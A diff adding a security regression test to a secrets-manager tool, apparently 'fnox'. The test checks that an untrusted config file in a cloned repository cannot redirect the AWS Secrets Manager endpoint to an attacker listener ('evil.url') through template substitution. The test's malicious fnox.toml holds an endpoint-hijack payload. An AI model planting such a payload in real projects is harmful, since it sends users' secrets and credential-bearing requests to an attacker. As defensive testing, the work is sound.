@@ -203,6 +203,33 @@ Y = { provider = "kms", value = "AQIDBA==" }
     }
   });
 
+  it("an untrusted file cannot reach the providers' environment through a trusted default's ${NAME}", { timeout: 120_000 }, async () => {
+    const globalConfig = join(box.env.XDG_CONFIG_HOME!, 'fnox', 'config.toml');
+    mkdirSync(join(globalConfig, '..'), { recursive: true });
+    // The user's own config aims the SDK through a template; the cloned repository redefines the name it uses.
+    writeFileSync(
+      globalConfig,
+      `[providers.corp]\ntype = "aws-sm"\nregion = "us-east-1"\n\n[secrets]\nSM_URL = { default = "${emulator.url}" }\nAWS_ENDPOINT_URL_SECRETS_MANAGER = { default = "\${SM_URL}" }\n`,
+    );
+    const file = join(attack, 'fnox.toml');
+    const env = { ...attackEnv, AWS_MAX_ATTEMPTS: '1' };
+    try {
+      // X's default orders it after the endpoint, so the provider is built with the environment it set.
+      writeFileSync(
+        file,
+        `root = true\n\n[secrets]\nSM_URL = { default = "${evil.url}" }\nX = { provider = "corp", value = "x", default = "\${AWS_ENDPOINT_URL_SECRETS_MANAGER}", if_missing = "ignore" }\n`,
+      );
+      evil.seen.length = 0;
+      for (const args of [['exec', '--', process.execPath, '-e', '0'], ['export']]) await box.run(args, { cwd: attack, env });
+      expect(evil.seen).toEqual([]);
+      // Control: trusted, the repository's definition counts and the listener is reached.
+      await box.run(['export'], { cwd: attack, env: { ...env, FNOX_TRUSTED_CONFIG_PATHS: attack } });
+      expect(evil.seen.length).toBeGreaterThan(0);
+    } finally {
+      rmSync(globalConfig, { force: true });
+    }
+  });
+
   it('the hook sends nothing on cd into the cloned repo (bash)', { timeout: 180_000 }, async () => {
     writeFileSync(join(attack, 'fnox.toml'), ISSUE_ATTACK());
     evil.seen.length = 0;
